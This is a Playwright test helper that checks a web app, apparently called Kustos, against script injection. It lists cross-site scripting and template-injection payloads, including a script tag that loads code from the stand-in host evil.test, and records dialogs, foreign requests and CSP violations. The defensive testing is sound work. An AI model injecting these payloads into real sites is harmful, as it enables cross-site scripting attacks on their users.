import type { Page } from '@playwright/test'
import { expect } from './test.ts'

/** Texts that an injectable page would execute, load or follow. */
export const payloads = [
  '"><img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  'javascript:alert(1)//',
  '</script><script src=//evil.test/x></script>',
  "'-alert(1)-'{{7*7}}",
  '[a](javascript:alert(1))',
] as const

/** Records dialogs, popups, foreign requests and CSP violations of a page, which Kustos never causes. */
export async function recordSideEffects(page: Page, origin: string): Promise<string[]> {
  const sideEffects: string[] = []
  page.on('dialog', async (dialog) => {
    sideEffects.push(`a dialog: ${dialog.message()}`)
    await dialog.dismiss()
  })
  page.on('popup', (popup) => sideEffects.push(`a window: ${popup.url()}`))
  page.context().on('request', (request) => {
    const url = new URL(request.url())
    if (/^(https?|wss?):$/.test(url.protocol) && url.origin !== origin) sideEffects.push(`a request: ${url}`)
    if (url.pathname === '/x' || url.pathname.endsWith('/x')) sideEffects.push(`a picture: ${url}`)
  })
  await page.exposeFunction(
    'reportViolation',
    (what: string) => void sideEffects.push(`a violation: ${what}`),
  )
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
      const report: unknown = Reflect.get(window, 'reportViolation')
      if (typeof report === 'function') report(`${violatedDirective} ${blockedURI}`)
    })
  })
  return sideEffects
}

export const waitUntilSettled = (page: Page) =>
  expect(page.locator('[aria-busy=true], .mantine-Skeleton-root')).toHaveCount(0)

/** Checks that no payload became part of the document. */
export async function expectNoInjection(page: Page) {
  await expect(
    page.locator(
      'img[src="x"], [onerror], [onload], a[href^="javascript:" i], script[src*="hostileText"], iframe, object, embed',
    ),
  ).toHaveCount(0)
}
